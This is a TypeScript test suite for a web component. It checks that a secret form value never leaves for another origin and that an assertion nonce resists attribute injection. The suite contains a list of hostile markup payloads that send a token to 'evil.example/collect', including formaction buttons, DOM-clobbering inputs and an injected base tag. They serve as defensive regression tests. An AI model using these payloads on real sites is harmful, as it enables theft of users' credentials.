import { expect, fixture } from '@open-wc/testing';
import { html, type TemplateResult } from 'lit';
import { CatracaElement } from '../../../src/components/internal/catraca-element.js';
import { ElementEvent, type StateChangeDetail } from '../../../src/components/internal/element-event.js';
import { ingresseTranslations, type IngresseMessages } from '../../../src/core/i18n/messages.js';

class ProbeEvent extends ElementEvent<object> {}

class FormProbe extends CatracaElement<'idle', IngresseMessages> {
  constructor() {
    super('idle', ingresseTranslations);
  }
  win(value: string): void {
    this.succeed(new ProbeEvent('probe-success', {}, { cancelable: true }), value);
  }
  protected override stateChangeEvent(detail: StateChangeDetail<'idle'>): Event {
    return new ProbeEvent('probe-state-change', detail);
  }
  protected override render(): TemplateResult {
    return html`<button>${this.t('ing.login')}</button>`;
  }
}
customElements.define('form-probe', FormProbe);

const configKey = Symbol.for('catraca.config');
const realError = console.error;
let messages: string[] = [];

function configure(settings: object): void {
  Object.assign(globalThis, { [configKey]: settings });
}

async function mount(template: TemplateResult, markup = ''): Promise<{ form: HTMLFormElement; probe: FormProbe }> {
  const box = await fixture<HTMLElement>(html`<div>${template}</div>`);
  box.insertAdjacentHTML('beforeend', markup);
  const form = box.querySelector('form')!;
  const probe = box.querySelector<FormProbe>('form-probe')!;
  await probe.updateComplete;
  return { form, probe };
}

const entries = (form: HTMLFormElement) => [...new FormData(form)];

describe('the value of an element in a form', () => {
  beforeEach(() => {
    messages = [];
    console.error = (text: string) => messages.push(text);
  });
  afterEach(() => {
    console.error = realError;
    Reflect.deleteProperty(globalThis, configKey);
    document.querySelector('#catraca-config')?.remove();
  });

  it('is not set unless the page opted in: markup alone cannot submit it anywhere', async () => {
    const { form, probe } = await mount(html`<form action="/x"><form-probe name="token"></form-probe></form>`);
    probe.win('secret');
    expect(entries(form)).to.deep.equal([]);
    expect(messages.join()).to.contain('allowFormValue');
  });

  it('is set where configure(), the property or the JSON block in the head opted in', async () => {
    const template = html`<form action="/x"><form-probe name="token"></form-probe></form>`;
    configure({ allowFormValue: true });
    const first = await mount(template);
    first.probe.win('by configure');
    expect(entries(first.form)).to.deep.equal([['token', 'by configure']]);
    Reflect.deleteProperty(globalThis, configKey);

    const second = await mount(template);
    second.probe.allowFormValue = true;
    second.probe.win('by property');
    expect(entries(second.form)).to.deep.equal([['token', 'by property']]);

    const block = Object.assign(document.createElement('script'), {
      id: 'catraca-config',
      type: 'application/json',
      textContent: '{"allowFormValue":true}',
    });
    document.head.append(block);
    const third = await mount(template);
    third.probe.win('by block');
    expect(entries(third.form)).to.deep.equal([['token', 'by block']]);
    expect(messages).to.deep.equal([]);
  });

  it('cannot be opted in by an attribute', async () => {
    const { form, probe } = await mount(
      html`<form><form-probe name="token" allow-form-value allowformvalue></form-probe></form>`,
    );
    probe.win('secret');
    expect(entries(form)).to.deep.equal([]);
  });

  const evil = 'https://evil.example/collect';
  const attacks: Record<string, string> = {
    'the action of its form': `<form action="${evil}"><form-probe name="token"></form-probe></form>`,
    'an action without scheme': `<form action="//evil.example/x"><form-probe name="token"></form-probe></form>`,
    'an action that runs script': `<form action="javascript:0"><form-probe name="token"></form-probe></form>`,
    'the formaction of a button': `<form><form-probe name="token"></form-probe><button formaction="${evil}"></button></form>`,
    'the formaction of an image': `<form><form-probe name="token"></form-probe><input type="image" formaction="${evil}"></form>`,
    'a button outside the form': `<form id="gadget"><form-probe name="token"></form-probe></form><button form="gadget" formaction="${evil}"></button>`,
    'a form elsewhere in the page': `<form id="gadget" action="${evil}"></form><form-probe name="token" form="gadget"></form-probe>`,
    'an action behind fields with the names of members': `<form action="${evil}"><form-probe name="token"></form-probe>
      <input name="action" value="/x" disabled><input name="getAttribute" disabled><input name="getRootNode" disabled>
      <input name="addEventListener" disabled></form>`,
  };
  for (const [name, markup] of Object.entries(attacks)) {
    it(`is not set where another origin is ${name}`, async () => {
      configure({ allowFormValue: true });
      const { form, probe } = await mount(html``, markup);
      probe.win('secret');
      expect(entries(form)).to.deep.equal([]);
      expect(messages.join()).to.contain('another origin');
    });
  }

  it('is not set where an injected <base> moves a relative action to another origin', async () => {
    configure({ allowFormValue: true });
    const { form, probe } = await mount(html`<form action="/x"><form-probe name="token"></form-probe></form>`);
    const base = Object.assign(document.createElement('base'), { href: 'https://evil.example/' });
    document.body.append(base);
    probe.win('secret');
    base.remove();
    expect(entries(form)).to.deep.equal([]);
  });

  it('leaves the form when a button that submits to another origin is added after the success', async () => {
    configure({ allowFormValue: true });
    const { form, probe } = await mount(
      html`<form><form-probe name="token"></form-probe><input name="token" value="own" /></form>`,
    );
    probe.win('secret');
    expect(entries(form)).to.deep.equal([
      ['token', 'secret'],
      ['token', 'own'],
    ]);
    form.insertAdjacentHTML('beforeend', `<button formaction="${evil}"></button>`);
    expect(entries(form)).to.deep.equal([['token', 'own']]);
  });

  it('follows the element into a form of another origin, and does not go along', async () => {
    configure({ allowFormValue: true });
    const { form, probe } = await mount(
      html`<form action="/x"><form-probe name="token"></form-probe></form>
        <form action=${evil} class="evil"></form>`,
    );
    probe.win('secret');
    expect(entries(form)).to.have.length(1);
    const other = form.parentElement!.querySelector<HTMLFormElement>('.evil')!;
    other.append(probe);
    expect(entries(other)).to.deep.equal([]);
    form.append(probe);
    expect(entries(form)).to.have.length(1);
  });
});

describe('the nonce of an assertion', () => {
  afterEach(() => Reflect.deleteProperty(globalThis, configKey));

  it('is the attribute where nothing else is set', async () => {
    const { probe } = await mount(html`<form><form-probe assertion-nonce="of the attribute"></form-probe></form>`);
    expect(probe.assertionNonce).to.equal('of the attribute');
    probe.setAttribute('assertion-nonce', 'later');
    expect(probe.assertionNonce).to.equal('later');
  });

  it('is the configured one, or the property, whatever the attribute says', async () => {
    const { probe } = await mount(html`<form><form-probe assertion-nonce="injected"></form-probe></form>`);
    configure({ assertionNonce: 'configured' });
    expect(probe.assertionNonce).to.equal('configured');
    probe.assertionNonce = 'of the property';
    probe.setAttribute('assertion-nonce', 'injected later');
    expect(probe.assertionNonce).to.equal('of the property');
    Object.assign(probe, { assertionNonce: null });
    expect(probe.assertionNonce).to.equal('configured');
  });
});
